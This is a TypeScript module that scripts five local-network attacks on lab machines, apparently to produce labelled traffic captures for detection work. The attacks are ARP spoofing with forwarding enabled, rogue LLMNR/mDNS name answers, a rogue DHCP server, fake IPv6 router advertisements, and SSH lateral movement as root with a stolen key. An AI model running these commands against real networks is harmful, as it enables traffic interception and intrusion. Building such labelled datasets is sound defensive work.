import { join } from 'node:path';
import { addressOf, MACHINES } from '../network.js';
import { OWN_PROGRAMS, PYTHON } from '../servers.js';
import { sshArgs } from '../stage.js';
import { type Attack, INSIDER } from './attack.js';

const ROUTER = addressOf('router');
const DESK = addressOf('client1');
/** Names that a desk has mistyped, or that were moved: nobody has them. */
const ASKED_NAMES = [
  ...['fileserver', 'printer2', 'intranet', 'wpad', 'backup-old'],
  ...['scanner', 'nas', 'wiki', 'sharepoint', 'camera1'],
];

/** Attacks that only work on one's own network, and moves from machine to machine. */
export const LOCAL: readonly Attack[] = [
  {
    name: 'arpspoof',
    label: 'arp_spoofing_arpspoof',
    category: 'arp',
    attacker: INSIDER,
    victim: DESK,
    filter: `arp and ether host 02:00:0a:4d:00:42 and (arp host ${DESK} or arp host ${ROUTER})`,
    limitS: 25,
    tools: ['arpspoof', 'sysctl'],
    note: 'both directions between a desk and the router, with forwarding',
    run: async (stage) => {
      await stage.run('insider', ['sysctl', '-q', '-w', 'net.ipv4.ip_forward=1']);
      const tell = (who: string, ofWhom: string) =>
        stage.start('insider', ['arpspoof', '-i', 'eth0', '-t', who, ofWhom], 25);
      const liars = [tell(DESK, ROUTER), tell(ROUTER, DESK)];
      await stage.pause(15);
      await Promise.all(liars.map((liar) => liar.end('SIGINT')));
      await stage.run('insider', ['sysctl', '-q', '-w', 'net.ipv4.ip_forward=0']);
    },
  },
  {
    name: 'name-answers',
    label: 'rogue_server_name_answers',
    category: 'policy',
    attacker: INSIDER,
    victim: DESK,
    filter: `host ${INSIDER} and (udp port 5355 or udp port 5353)`,
    limitS: 25,
    tools: [],
    note: 'ten names that a desk asks for by LLMNR and multicast DNS, each answered with the own address',
    run: async (stage) => {
      const program = join(OWN_PROGRAMS, 'name_answers.py');
      const liar = stage.start('insider', [PYTHON, program, 'answer', INSIDER, '20'], 25);
      await stage.pause(1);
      await stage.run('client1', [PYTHON, program, 'ask', DESK, ...ASKED_NAMES], 15);
      await liar.end();
    },
  },
  {
    name: 'rogue-dhcp',
    label: 'rogue_server_dhcp',
    category: 'policy',
    attacker: INSIDER,
    victim: addressOf('client4'),
    filter: 'udp port 67 or udp port 68',
    limitS: 20,
    tools: ['dnsmasq', 'busybox'],
    note: 'dnsmasq offers addresses; a desk asks three times and changes nothing',
    run: async (stage) => {
      const range = '--dhcp-range=10.77.0.200,10.77.0.210,5m';
      const quiet = [
        'dnsmasq',
        '-k',
        '-C',
        '/dev/null',
        '--pid-file=',
        '--port=0',
        '--user=root',
        '--interface=eth0',
        '--bind-interfaces',
      ];
      const server = stage.start(
        'insider',
        [...quiet, range, `--dhcp-option=3,${INSIDER}`, '--dhcp-leasefile=/dev/null'],
        20,
      );
      await stage.pause(1);
      for (let time = 0; time < 3; time++) {
        await stage.run(
          'client4',
          ['busybox', 'udhcpc', '-f', '-n', '-q', '-i', 'eth0', '-s', '/bin/true', '-t', '2', '-T', '1'],
          6,
        );
      }
      await server.end();
    },
  },
  {
    name: 'rogue-router',
    label: 'rogue_server_router_advertisements',
    category: 'policy',
    attacker: INSIDER,
    victim: 'fe80::/64',
    filter: 'icmp6 and ether host 02:00:0a:4d:00:42',
    limitS: 15,
    tools: ['atk6-fake_router6'],
    note: 'fake_router6 announces 2001:db8:bad::/64',
    run: (stage) => stage.run('insider', ['atk6-fake_router6', 'eth0', '2001:db8:bad::/64'], 12),
  },
  {
    name: 'ssh-fan-out',
    label: 'lateral_movement_ssh',
    category: 'lateral',
    attacker: DESK,
    victim: '10.77.0.0/24',
    filter: `host ${DESK} and tcp port 22`,
    limitS: 30,
    tools: ['ssh'],
    note: 'a desk that enters eight machines one after the other with a stolen key',
    run: async (stage) => {
      const inside = MACHINES.filter(({ name }) =>
        ['ssh', 'files', 'web', 'mail', 'ftp', 'client2', 'client3', 'client4'].includes(name),
      );
      for (const { name } of inside) {
        await stage.run(
          'client1',
          sshArgs(stage, '-o', 'ConnectTimeout=2', `root@${addressOf(name)}`, 'id; ls -l /etc | head -40'),
          5,
        );
        await stage.pause(1);
      }
    },
  },
];
